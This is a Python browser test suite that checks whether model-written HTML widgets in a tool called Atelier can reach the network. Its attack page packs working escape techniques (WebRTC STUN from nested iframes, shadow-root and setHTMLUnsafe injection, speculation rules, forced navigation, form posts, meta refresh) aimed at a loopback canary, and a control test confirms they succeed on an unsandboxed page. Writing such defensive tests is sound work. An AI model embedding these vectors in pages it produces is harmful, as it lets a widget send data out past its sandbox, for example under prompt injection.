"""Custom HTML widgets reach no network, from any place the page can be opened (issue 15, hole 2).

A model-written page (from any API client, or a model under prompt injection) tries every way out that an outside
attack found or that is close to one: a declarative shadow root holding a frame whose fresh globals run WebRTC,
the same built at run time, navigating itself and the top page, a meta refresh, link clicks, a new window, a form,
and speculation rules. A canary on loopback (HTTP and UDP, for STUN) must hear nothing when the page is opened
embedded in another site, at /embed/{id}, at /embed/{id}/content, at /render/{id}/widget.html, and as the
downloaded file from the disk. The same page opened raw, without Atelier, does reach the canary: the attacks work.
"""

from __future__ import annotations

import json
import time

import pytest

from tests.browser.conftest import render, widget_plan
from tests.browser.test_embedding import host_page, wait_until

pytestmark = pytest.mark.slow


def _rtc(stun: str) -> str:
    return (f"var pc = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}}); pc.createDataChannel('x');"
            " pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });")


def attack_page(canary) -> str:
    """One page with every vector; each script notes that it ran (`ran` on the body), so a page that never ran
    cannot pass for a safe one."""
    url = canary.url
    stun = f"stun:127.0.0.1:{canary.udp_port}"
    nested = f"<script>{_rtc(stun)}</script>"
    # Inside a script, '</' is written '<\/' so the script is not ended early by the markup it carries.
    dynamic = json.dumps(f'<iframe srcdoc="{nested}"></iframe>').replace("</", "<\\/")
    declarative = json.dumps(f'<div><template shadowrootmode="open"><iframe srcdoc="{nested}"></iframe></template>'
                             "</div>").replace("</", "<\\/")
    rules = json.dumps({"prefetch": [{"source": "list", "urls": [f"{url}/speculation-dynamic"]}],
                        "prerender": [{"source": "list", "urls": [f"{url}/prerender-dynamic"]}]})
    tries = {
        "rtc": _rtc(stun),
        "shadow": f"document.body.appendChild(document.createElement('div')).attachShadow({{mode: 'open'}})"
                  f".innerHTML = {dynamic};",
        "unsafe_html": f"document.body.appendChild(document.createElement('div')).setHTMLUnsafe({declarative});",
        "rules": "var s = document.createElement('script'); s.type = 'speculationrules';"
                 f" s.textContent = {json.dumps(rules)}; document.head.appendChild(s);",
        "open": f"window.open({json.dumps(url + '/open')});",
        "blank": f"var a = document.createElement('a'); a.href = {json.dumps(url + '/blank')}; a.target = '_blank';"
                 " a.click();",
        "top": f"top.location = {json.dumps(url + '/top')};",
        "form": f"var f = document.createElement('form'); f.action = {json.dumps(url + '/form')}; f.method = 'post';"
                " document.body.appendChild(f); f.submit();",
    }
    scripts = "\n".join(
        f"<script>try {{ {code} }} catch (e) {{}}"
        f" document.body.dataset.ran = (document.body.dataset.ran || '') + '{name} ';</script>"
        for name, code in tries.items())
    return (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>Escape</title>"
        f"<meta http-equiv='refresh' content='1;url={url}/refresh'>"
        f"<link rel='prefetch' href='{url}/prefetch'>"
        f"<script type='speculationrules'>{json.dumps({'prerender': [{'source': 'list', 'urls': [url + '/pre']}]})}"
        "</script></head><body><h1 id='shown'>Escape room</h1>"
        f"<div><template shadowrootmode='open'><iframe srcdoc=\"{nested}\"></iframe></template></div>"
        f"<iframe srcdoc=\"{nested}\"></iframe><object data='{url}/object'></object>"
        f"<a id='link' href='{url}/link'>a link</a>"
        f"{scripts}</body></html>")


def _ran_everything(frame) -> bool:
    ran = frame.evaluate("() => document.body && document.body.dataset.ran || ''")
    return ran.split() == ["rtc", "shadow", "unsafe_html", "rules", "open", "blank", "top", "form"]


def _widget_frame(page):
    """The frame that runs the model's page: the sandboxed srcdoc frame inside Atelier's own page."""
    for frame in page.frames:
        if frame.url == "about:srcdoc" and frame.parent_frame is not None:
            try:
                if frame.evaluate("() => !!document.getElementById('shown')"):
                    return frame
            except Exception:  # noqa: BLE001 - a frame torn down meanwhile
                continue
    return None


def _expect_silence(page, canary) -> None:
    wait_until(lambda: _widget_frame(page) is not None, "the custom page loading")
    frame = _widget_frame(page)
    wait_until(lambda: _ran_everything(frame), "every attack being tried")
    assert frame.evaluate("() => document.getElementById('shown').textContent") == "Escape room"
    # Nothing the markup held survives: no frames, objects, templates, refresh, prefetch or speculation rules.
    assert frame.evaluate("() => document.querySelectorAll('iframe, object, template, meta[http-equiv=refresh], "
                          "link, script[type=speculationrules]').length") == 0
    # The attempts that only a listener can judge (STUN, a navigation, a refresh after a second) get time to arrive.
    time.sleep(2.5)
    assert canary.hits == []
    assert _widget_frame(page) is frame and frame.evaluate("() => location.href") == "about:srcdoc"


def leaving_page(canary, how: str) -> str:
    """A page that tries to go elsewhere once it is shown: by a link click, by `location`, or by a meta refresh."""
    target = json.dumps(f"{canary.url}/{how}")
    code = {"click": f"var l = document.createElement('a'); l.href = {target}; document.body.appendChild(l);"
                     " l.click();",
            "location": f"location.href = {target};",
            "refresh": "var m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                       f" m.content = '0;url=' + {target}; document.head.appendChild(m);"}[how]
    return (f"<!doctype html><html><head><meta http-equiv='refresh' content='0;url={canary.url}/markup-refresh'>"
            f"</head><body><p id='shown'>leaving</p><script>setTimeout(function () {{ {code} }}, 300)</script>"
            "</body></html>")


def _note_shown(page) -> bool:
    return any("tried to leave its page" in (f.evaluate("() => document.body ? document.body.innerText : ''") or "")
               for f in page.frames if not f.url.startswith("about:") and not f.is_detached())


def _expect_stopped(page, canary) -> None:
    """The page tried to leave: its frame's navigation was refused, the frame taken down with a note, and nothing
    reached the canary."""
    wait_until(lambda: _note_shown(page), "the note that the widget was stopped")
    time.sleep(1.5)
    assert canary.hits == []


@pytest.fixture()
def escape(client, canary):
    return render(client, widget_plan({"kind": "html", "html": attack_page(canary)}, title="Escape"))


def test_the_attacks_work_on_a_page_that_atelier_did_not_serve(page, canary, tmp_path):
    raw = tmp_path / "raw.html"
    raw.write_text(attack_page(canary), encoding="utf-8")
    # Chromium gathers ICE candidates once, on load; on a loaded machine that can outlast a wait, so the control
    # loads the page again (up to three times) before it says that the attack does not work
    for attempt in range(3):
        page.goto(raw.as_uri())
        try:
            wait_until(lambda: any(h.startswith("UDP") for h in canary.hits), "STUN packets from the raw page", 30)
            break
        except AssertionError:
            if attempt == 2:
                raise
    wait_until(lambda: any("GET /" in h for h in canary.hits), "a request from the raw page")
    for how in ("click", "location", "refresh"):
        leaver = tmp_path / f"{how}.html"
        leaver.write_text(leaving_page(canary, how).replace("content='0;url=", "content='5;url="), encoding="utf-8")
        page.context.new_page().goto(leaver.as_uri(), wait_until="commit")
        wait_until(lambda how=how: f"GET /{how}" in canary.hits, f"the raw page leaving by {how}")


def test_embedded_in_another_site(page, server, site, canary, escape):
    page.goto(host_page(site, "escape.html", escape["embed"]["script"]))
    _expect_silence(page, canary)
    assert page.locator("#secret").inner_text() == "host secret" and page.url.startswith(site.url)


@pytest.mark.parametrize("where", ["/embed/{id}", "/embed/{id}/content", "/render/{id}/widget.html"])
def test_opened_on_its_own_at_each_address(page, server, canary, escape, where):
    url = server.base + where.format(id=escape["id"])
    page.goto(url)
    _expect_silence(page, canary)
    assert page.url == url  # the top page never went anywhere


def test_the_downloaded_file_opened_from_the_disk(page, client, canary, escape, tmp_path):
    download = client.get(f"/render/{escape['id']}/widget.html", params={"download": 1})
    assert download.status_code == 200 and "attachment" in download.headers["content-disposition"]
    saved = tmp_path / "widget.html"
    saved.write_bytes(download.content)
    # Its own <meta> policy lets nothing load, with no header to help it.
    ours = download.text.split("<iframe", 1)[0]
    assert "Content-Security-Policy\" content=\"default-src 'none'" in ours and "frame-src 'none'" in ours
    page.goto(saved.as_uri())
    _expect_silence(page, canary)
    assert page.url == saved.as_uri()


def test_the_render_says_what_was_left_out(escape):
    (warning,) = [w for w in escape["warnings"] if w["code"] == "unsafe_html_removed"]
    for part in ("<iframe>", "<template>", "<object>", "http-equiv", "srcdoc", "shadowrootmode"):
        assert part in warning["detail"], part


@pytest.mark.parametrize("how", ["click", "location", "refresh"])
def test_a_page_that_leaves_is_stopped_wherever_it_is_opened(page, client, server, site, canary, tmp_path, how):
    manifest = render(client, widget_plan({"kind": "html", "html": leaving_page(canary, how)}, title="Leaver"))
    saved = tmp_path / "leaver.html"
    saved.write_bytes(client.get(f"/render/{manifest['id']}/widget.html").content)
    for url in (host_page(site, "leaver.html", manifest["embed"]["iframe"]), f"{server.base}/embed/{manifest['id']}",
                f"{server.base}/render/{manifest['id']}/widget.html", saved.as_uri()):
        page.goto(url)
        _expect_stopped(page, canary)
        assert page.url == url
